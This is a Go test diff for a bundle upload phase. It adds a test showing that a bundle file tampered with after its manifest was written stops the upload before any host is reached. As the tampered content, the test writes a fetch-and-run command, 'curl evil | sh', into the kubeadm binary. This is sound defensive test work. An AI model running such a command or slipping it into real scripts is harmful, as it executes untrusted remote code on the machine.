@@ -2,6 +2,7 @@ package phases
 
 import (
 	"context"
+	"errors"
 	"os"
 	"path"
 	"path/filepath"
@@ -26,6 +27,9 @@ func TestUploadBundleSendsOnlyStaleFilesThenStamps(t *testing.T) {
 	}
 	m := &bundle.Manifest{Schema: bundle.Schema}
 	if err := m.Index(dir); err != nil {
+		t.Fatal(err)
+	}
+	if err := m.Write(dir); err != nil {
 		t.Fatal(err)
 	}
 	// The host has kubeadm intact already, no stamp yet.
@@ -70,3 +74,37 @@ func TestUploadBundleSendsOnlyStaleFilesThenStamps(t *testing.T) {
 }
 
 func itoa(n int64) string { return strconv.FormatInt(n, 10) }
+
+// TestUploadVerifiesTheBundleFirst: a bundle file changed after the build (its manifest no longer
+// matches) stops the phase before any command or upload reaches a host.
+func TestUploadVerifiesTheBundleFirst(t *testing.T) {
+	dir := t.TempDir()
+	if err := os.MkdirAll(filepath.Join(dir, "bin"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	kubeadm := filepath.Join(dir, "bin", "kubeadm")
+	if err := os.WriteFile(kubeadm, []byte("kubeadm"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	m := &bundle.Manifest{Schema: bundle.Schema}
+	if err := m.Index(dir); err != nil {
+		t.Fatal(err)
+	}
+	if err := m.Write(dir); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(kubeadm, []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	h := newFake("cp1")
+	p := &plan{Options: Options{Lab: testLab(), BundleDir: dir}, manifest: m}
+	r := &engine.Run{Sink: &eventLog{}, Hosts: []*engine.Host{{Name: "cp1", Transport: h}}}
+	err := (&UploadBundle{plan: p}).Run(context.Background(), r)
+	var mm *bundle.MismatchError
+	if !errors.As(err, &mm) || mm.Path != "bin/kubeadm" {
+		t.Fatalf("err = %v, want a mismatch on bin/kubeadm", err)
+	}
+	if len(h.commands()) != 0 || len(h.puts) != 0 {
+		t.Errorf("the host was reached: commands %q, uploads %v", h.commands(), h.puts)
+	}
+}
